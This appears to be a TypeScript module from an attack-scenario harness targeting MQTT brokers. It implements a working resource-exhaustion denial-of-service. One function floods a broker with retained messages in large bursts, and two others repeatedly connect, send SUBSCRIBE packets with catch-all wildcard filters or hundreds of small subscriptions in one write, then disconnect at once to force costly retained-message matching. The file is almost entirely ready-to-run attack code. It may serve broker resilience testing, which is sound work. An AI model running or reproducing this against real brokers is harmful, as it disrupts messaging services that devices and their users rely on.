import { openMqtt, publishPacket, repeat, send, sleep, subscribePacket } from './attacker.js'
import type { AttackTarget } from './scenario.js'

/** Stores `count` retained messages on topics of the attacker, in writes of a few hundred. */
export async function storeMany(target: AttackTarget, signal: AbortSignal, count: number): Promise<void> {
  const publisher = await openMqtt(target, signal)
  for (let index = 0; index < count && !signal.aborted; index += 500) {
    const burst = Array.from({ length: 500 }, (_, one) =>
      publishPacket(`retained/${target.address}/${index + one}`, 'x', { retain: true }),
    )
    await send(publisher, Buffer.concat(burst), signal)
    await sleep(5, signal)
  }
  publisher.destroy()
}

/** Connects, subscribes with `packets` in one write, and leaves at once, again and again. */
function subscribeAndLeave(target: AttackTarget, signal: AbortSignal, packets: readonly Buffer[]): Promise<number> {
  const bytes = Buffer.concat(packets)
  return repeat(signal, 200, async () => {
    const socket = await openMqtt(target, signal)
    await send(socket, bytes, signal)
    await sleep(20, signal)
    socket.destroy()
    return packets.length
  })
}

/** One SUBSCRIBE with filters that match nothing and everything; the client leaves at once. */
export function scan(target: AttackTarget, signal: AbortSignal): Promise<number> {
  const filters = Array.from({ length: 25 }, (_, index) => [`+/+/${index}x`, `retained/+/+/${index}`, '#']).flat()
  return subscribeAndLeave(target, signal, [subscribePacket(filters)])
}

/** 300 small SUBSCRIBEs in one write; the client leaves at once. */
export function subscribeOften(target: AttackTarget, signal: AbortSignal): Promise<number> {
  const packets = Array.from({ length: 300 }, (_, index) => subscribePacket([`+/+/+/${index}`, '#'], index + 1))
  return subscribeAndLeave(target, signal, packets)
}
